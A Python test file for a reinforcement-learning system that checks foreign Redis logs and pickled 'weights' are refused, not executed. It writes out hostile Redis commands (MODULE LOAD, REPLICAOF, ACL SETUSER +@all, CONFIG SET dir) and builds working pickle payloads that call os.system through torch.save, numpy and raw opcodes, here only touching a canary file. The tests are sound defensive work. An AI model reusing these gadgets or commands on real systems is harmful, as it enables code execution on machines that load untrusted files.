"""Data that somebody else wrote is data: a log in which commands stand, pickles in the place of weights."""

import io
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

import lz4.frame
import numpy as np
import pytest
import torch

from penstock.learner.batch import check_meaning
from penstock.policy.weights import decode, encode, load_into
from penstock.protocol import fragment as wire
from penstock.protocol.fragment import Fragment
from penstock.protocol.refusal import Reason
from tests.support.abuse.stage import Stage, nothing_stored, session_of, staged, unharmed
from tests.support.abuse.wire import stored
from tests.support.run import harness
from tests.support.run.actor_run import PROGRAM, Plan, ScriptedLearner
from tests.support.run.harness import command
from tests.support.run.simulated_actor import refusal_of
from tests.support.run.small_run import RUN, SCHEMA, SLOTS, STEPS, fragment
from tests.support.run.solved_run import SOLVED_RUN
from tests.support.storage.redis_server import RedisServer

REACHING: Final = {
    "code": ("MODULE", "LOAD", "theirs.so"),
    "another machine": ("REPLICAOF", "192.0.2.1", "6379"),
    "another machine by its old name": ("SLAVEOF", "192.0.2.1", "6379"),
    "a key that moves": ("MIGRATE", "192.0.2.1", "6379", "x", "0", "1"),
    "a crash": ("DEBUG", "JMAP"),
    "a file": ("SAVE",),
}
"""Commands that reach beyond the log."""
STEERING: Final = {
    "another folder": ("CONFIG", "SET", "dir", ".."),
    "another user": ("ACL", "SETUSER", "theirs", "on", "nopass", "~*", "+@all"),
    "a program": ("EVAL", "return 1", "0"),
    "an end": ("SHUTDOWN",),
}
"""Those that a run's own server needs, or that do no harm there, and a reader does not."""


def write_log(folder: Path, *commands: tuple[str, ...]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "appendonly.aof").open("wb") as file:
        for words in commands:
            file.write(b"*%d\r\n" % len(words))
            for word in words:
                file.write(b"$%d\r\n%s\r\n" % (len(word), word.encode()))


@pytest.mark.promise("redis-started-somebody-else")
@pytest.mark.parametrize("words", (REACHING | STEERING).values(), ids=(REACHING | STEERING).keys())
def test_an_audit_runs_no_code_of_a_foreign_log(words: tuple[str, ...], tmp_path: Path) -> None:
    run = shutil.copytree(SOLVED_RUN, tmp_path / "run")
    write_log(run / "redis", ("SELECT", "0"), words)
    done = command("audit", str(run))
    assert done.returncode == 1, done.stdout
    assert f"Unknown command '{words[0]}' reading the append only file" in done.stderr


@pytest.mark.promise("redis-started-somebody-else")
@pytest.mark.parametrize("words", REACHING.values(), ids=REACHING.keys())
def test_a_resumed_run_runs_no_code_of_a_foreign_log(words: tuple[str, ...], short_folder: Path) -> None:
    write_log(short_folder / "redis", ("SELECT", "0"), words)
    done = command("redis", "--socket", str(short_folder / "s"), "--dir", str(short_folder / "redis"))
    assert done.returncode == 1, done.stderr
    assert f"Unknown command '{words[0]}' reading the append only file" in done.stderr


def test_a_log_of_data_is_read(tmp_path: Path) -> None:
    run = shutil.copytree(SOLVED_RUN, tmp_path / "run")
    write_log(run / "redis", ("SELECT", "0"), ("SET", "theirs", "1"))
    done = command("audit", str(run))
    assert done.returncode == 0, done.stderr


OBSERVATION_BYTES: Final = 4 * (STEPS + 1) * SLOTS * 3


class _Evil:
    """Makes a file when it is loaded."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self._canary}",)


def _protocol_0(canary: Path) -> bytes:
    return f"cposix\nsystem\n(S'touch {canary}'\ntR.".encode()


def _protocol_4(canary: Path) -> bytes:
    command = f"touch {canary}".encode()
    return b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c" + bytes([len(command)]) + command + b"\x85R."


def _torch(canary: Path) -> bytes:
    file = io.BytesIO()
    torch.save({"weight": _Evil(canary)}, file)  # noqa: TID251 - the attack itself
    return file.getvalue()


def _numpy(canary: Path) -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([_Evil(canary)], object), allow_pickle=True)
    return file.getvalue()


PAYLOADS: Final[dict[str, Callable[[Path], bytes]]] = {
    "pickle protocol 0": _protocol_0,
    "pickle protocol 4": _protocol_4,
    "torch.save": _torch,
    "numpy object array": _numpy,
}


@pytest.fixture
def stage(short_folder: Path) -> Iterator[Stage]:
    with staged(short_folder) as ready:
        yield ready


@pytest.fixture
def canary(short_folder: Path) -> Iterator[Path]:
    path = short_folder / "canary"
    yield path
    assert not path.exists()


def _fire(payload: bytes, folder: Path) -> None:
    file, program = folder / "payload", ["-m", "pickle"]
    if payload.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(payload)) as archive:
            (name,) = (name for name in archive.namelist() if name.endswith("/data.pkl"))
            payload = archive.read(name)
    elif payload.startswith(b"\x93NUMPY"):
        program = ["-c", "import numpy, sys; numpy.load(sys.argv[1], allow_pickle=True)"]
    file.write_bytes(payload)
    subprocess.run([sys.executable, *program, str(file)], check=True, stdout=subprocess.DEVNULL)


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_payloads_are_armed(tmp_path: Path, name: str) -> None:
    path = tmp_path / "canary"
    _fire(PAYLOADS[name](path), tmp_path)
    assert path.exists()


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_pickle_in_the_place_of_weights_is_refused(canary: Path, name: str) -> None:
    payload = PAYLOADS[name](canary)
    module = torch.nn.Linear(2, 2)
    before = encode(module)
    for blob in (payload, len(payload).to_bytes(8, "little") + payload):
        with pytest.raises(ValueError, match="weights"):
            decode(blob)
        with pytest.raises(ValueError, match="weights"):
            load_into(module, blob)
    assert encode(module) == before


@pytest.mark.promise("nothing-unpickled")
@pytest.mark.parametrize("name", PAYLOADS)
def test_a_pickle_in_the_place_of_a_payload_is_refused_and_not_stored(
    stage: Stage, canary: Path, name: str
) -> None:
    payload = PAYLOADS[name](canary)
    with unharmed(stage), session_of(stage, "evil") as actor, nothing_stored(stage):
        good = fragment(actor.session)
        hostile = (
            replace(good, payload=payload),
            stored(actor.session, "observation", payload, "raw"),
            stored(actor.session, "observation", payload),
            stored(actor.session, "observation", lz4.frame.compress(payload)),
            stored(actor.session, "reward", payload),
        )
        for each in hostile:
            assert refusal_of(actor.send(each)).reason is Reason.INVALID


def test_a_pickle_of_the_right_size_is_read_as_numbers(stage: Stage, canary: Path) -> None:
    payload = _protocol_0(canary).ljust(OBSERVATION_BYTES, b"\0")
    assert len(payload) == OBSERVATION_BYTES
    with session_of(stage, "evil") as actor:
        raw = stored(actor.session, "observation", payload, "raw")
        hostile = replace(raw, header=replace(raw.header, attributes=payload, group_id=payload[:90].decode()))
        assert actor.send(hostile).acked_through == 1
    (entry,) = stage.learner.read(0, 10, 0)
    (data,) = stage.learner.fetch([entry.number])
    assert entry.header is not None
    assert data is not None
    read = Fragment(entry.header, data)
    wire.check(read, SCHEMA, RUN)
    check_meaning(read.header, read.arrays())
    assert read.arrays()["observation"].tobytes() == payload


@pytest.mark.parametrize("name", ["torch.save", pytest.param("pickle protocol 4", marks=pytest.mark.slow)])
def test_an_actor_ends_on_published_pickles(
    redis_server: RedisServer, short_folder: Path, canary: Path, name: str
) -> None:
    learner = ScriptedLearner(redis_server.url, Plan())
    learner.log.publish(PAYLOADS[name](canary), update=0, settled=0, scalars={})
    listen = f"unix:{short_folder}/broker.sock"
    with harness.broker(redis_server.url, short_folder / "broker", listen=listen):
        ended = subprocess.run(
            [sys.executable, "-c", PROGRAM, listen, "a-1"], capture_output=True, timeout=120, check=False
        )
    learner.log.close()
    assert ended.returncode == 1
    assert b"weights" in ended.stderr.strip().splitlines()[-1]
